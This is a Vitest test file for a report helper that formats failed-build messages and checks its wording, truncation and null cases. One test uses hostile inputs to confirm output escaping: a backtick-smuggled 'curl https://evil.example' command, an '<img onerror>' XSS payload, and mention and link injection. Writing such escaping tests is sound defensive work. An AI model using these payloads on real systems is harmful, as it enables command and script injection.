import { describe, expect, it } from 'vitest';
import { failedBuildsLine } from '../../src/report/builds-line.js';

describe('failedBuildsLine', () => {
  it('names the version, the build, the command, the reason and the last line of its output', () => {
    const line = failedBuildsLine([
      { version: 'head', binary: 2, command: 'make', reason: 'exited with code 2', exitCode: 2, outputTail: 'cc -O2\nerror: out of disk\n' },
    ]);
    expect(line).toBe(
      'Build failed: head build 3, added during the run: make exited with code 2 (its output ended with “error: out of disk”). ' +
        'The run ended with a final analysis of the 2 builds per version it had measured.',
    );
  });

  it('escapes the build’s and the fork’s text: no HTML, code, mentions, issue links or autolinks reach the report', () => {
    const line = failedBuildsLine([
      {
        version: 'base',
        binary: 1,
        command: 'sh -c `curl https://evil.example`',
        reason: 'exited with code 1 <img src=x onerror=alert(1)>',
        outputTail: 'ping @maintainer about #12 at www.evil.example | see [link](https://evil.example)',
      },
      { version: 'head', binary: 1, reason: 'also' },
    ])!;
    expect(line).not.toMatch(/<img|(?<!\\)`|@maintainer|(?<!\\)#12|https:\/\/evil|www\.evil|(?<!\\)\]\(/);
    expect(line).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(line).toContain('; 1 more added build failed.');
    expect(line).toContain('final analysis of the 1 build per version');
  });

  it('cuts long text', () => {
    const line = failedBuildsLine([{ version: 'base', binary: 2, reason: 'x'.repeat(5000), outputTail: 'y'.repeat(5000) }])!;
    expect(line.length).toBeLessThan(700);
  });

  it.each([
    undefined,
    null,
    'failed',
    {},
    [],
    [{ version: 'both', binary: 2, reason: 'r' }],
    [{ version: 'base', binary: -1, reason: 'r' }],
    [{ version: 'base', binary: 2 }],
  ])('is null for %j (nothing failed, or nothing it can read)', (value) => {
    expect(failedBuildsLine(value)).toBeNull();
  });
});
